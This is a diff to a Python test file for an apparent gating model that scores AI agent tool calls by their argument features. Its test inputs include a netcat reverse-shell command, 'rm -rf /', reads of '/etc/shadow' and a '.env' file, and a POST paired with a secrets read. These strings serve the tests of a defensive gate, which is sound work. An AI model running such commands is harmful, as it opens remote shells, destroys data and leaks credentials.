@@ -22,6 +22,7 @@ from gated.engine.wide import (
     WideAdaGrad,
     pair_logit,
     structured_features,
+    value_shape,
     wide_features,
 )
 from gated.store import Store
@@ -126,14 +127,49 @@ def test_structured_features_are_bounded_and_take_any_context():
     assert len(structured_features("rm -rf /", None, n, 0.3, 0.0)[0]) == 3
 
 
+def test_value_shape_keeps_the_structure_and_forgets_the_words():
+    assert value_shape("/home/quinn/src/beacon-portal/adapters/codec.rb") == "/a/a/a/a-a/a/a.a"
+    assert value_shape("nc -e /bin/sh 10.0.0.7 4444") == "a -a /a/a 0.0.0.0 0"
+    assert value_shape("wc -l jobs/planner.kt") == value_shape("du -s adapters/mailer.go")
+    assert value_shape("") == "" and value_shape("   ") == "   "
+    assert value_shape("é_ü 42x") == "é_ü 0a"  # only ASCII runs are folded
+    assert len(value_shape("a/" * 1000)) == 64  # SHAPE_CHARS
+
+
+def test_argument_shapes_let_an_unseen_value_share_the_features_of_its_kind():
+    """Two reads in projects with no word in common share their shape features (the whole
+    path's and its token's), a read outside any project does not; shapes are keyed by tool
+    and argument, have total L2 norm `shape_scale`, and a hostile call is bounded."""
+    n = 1 << 18
+
+    def shapes(context: str) -> tuple[np.ndarray, np.ndarray]:
+        return structured_features(context, None, n, 0.0, 0.0, shape_scale=1.0)
+    seen, sv = shapes(_call("fs.read", path="/home/ana/src/ember-hub/jobs/exporter.py"))
+    unseen, _ = shapes(_call("fs.read", path="/home/quinn/src/beacon-portal/adapters/codec.rb"))
+    system, _ = shapes(_call("fs.read", path="/etc/shadow"))
+    other_tool, _ = shapes(_call("fs.write", path="/home/ana/src/ember-hub/jobs/exporter.py"))
+    assert len(seen) == 2 and set(seen) == set(unseen)  # the value's and its one token's
+    assert set(seen).isdisjoint(system) and set(seen).isdisjoint(other_tool)
+    assert np.isclose(np.sqrt(sv @ sv), 1.0) and BIAS_BUCKET not in seen
+    words, _ = structured_features(_call("fs.read", path="/x"), None, n, 0.3, 0.3)
+    assert words.size == 2  # "/" and "x": no shapes unless asked for
+    huge = _call("shell.exec", **{f"a{k}": " ".join("1x" * i for i in range(5000))
+                                  for k in range(200)})
+    idx, val = structured_features(huge, None, n, 0.0, 0.0, shape_scale=1.0)
+    assert len(idx) == MAX_STRUCTURED and np.all(np.isfinite(val))
+    assert len(shapes(_call("shell.exec", cmd=" ".join(["ls"] * 100)))[0]) == 2
+
+
 def test_source_batch_adds_the_structured_features_to_the_ngrams():
     cfg = ModelConfig.tiny()
-    off = dataclasses.replace(cfg, wide_call_words=0.0, wide_history_cross=0.0)
+    off = dataclasses.replace(cfg, wide_call_words=0.0, wide_history_cross=0.0,
+                              wide_call_shapes=0.0)
     items = [(_call("http.request", method="POST", url="https://a.io"),
               [_call("fs.read", path="/w/.env")])]
     on_b, off_b = source_batch(items, cfg), source_batch(items, off)
     k = np.count_nonzero(off_b["wide_val"][0])
-    extra = structured_features(*items[0], cfg.wide_buckets, 0.3, 0.3)
+    extra = structured_features(*items[0], cfg.wide_buckets, 0.3, 0.3, cfg.wide_call_shapes)
+    assert cfg.wide_call_shapes > 0 and len(extra[0]) == 1 + 2 + 2 + 1  # words, shapes, cross
     np.testing.assert_array_equal(on_b["wide_idx"][0, :k], off_b["wide_idx"][0, :k])
     np.testing.assert_array_equal(on_b["wide_idx"][0, k:k + len(extra[0])], extra[0])
 
